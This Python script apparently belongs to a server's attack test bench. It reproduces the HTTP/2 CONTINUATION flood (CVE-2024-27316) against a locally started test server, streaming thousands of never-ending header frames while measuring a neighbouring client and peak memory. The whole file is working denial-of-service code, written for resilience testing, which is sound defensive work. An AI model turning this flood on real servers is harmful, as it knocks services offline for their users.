"""HEADERS whose CONTINUATION frames never end (CVE-2024-27316): 64 MiB of header fields, beside a neighbour's calls."""

from contextlib import suppress

from bench.attacks.harness import STATUS, Neighbour, Peak, tell
from bench.attacks.wire import Kind, Wire, block, frame, headers
from tests.server.harness import running_server

FRAMES = 32768
_FIELDS = block([("x-filler", "x" * 8000)] * 2)
"""Just below the largest frame, 16 KiB."""


def endless(address: str, frames: int) -> int:
    """Send so many frames of one header block; how many bytes went out before the server closed the connection."""
    sent = 0
    with Wire(address) as wire, suppress(OSError):
        wire.send(headers(1, STATUS, flags=0))
        for _ in range(frames):
            wire.send(frame(Kind.CONTINUATION, 1, _FIELDS))
            sent += len(_FIELDS)
            while wire.next_frame(0) is not None:
                pass
    return sent


def main() -> int:
    """Print what the neighbour and the memory saw."""
    with running_server("--device", "sim") as server:
        peak = Peak(server.process.pid)
        with peak.watched(), Neighbour(server.address) as neighbour:
            sent = endless(server.address, FRAMES)
        return tell("continuation", sent_bytes=sent, neighbour=neighbour.figures(), memory=peak.figures())


if __name__ == "__main__":
    raise SystemExit(main())
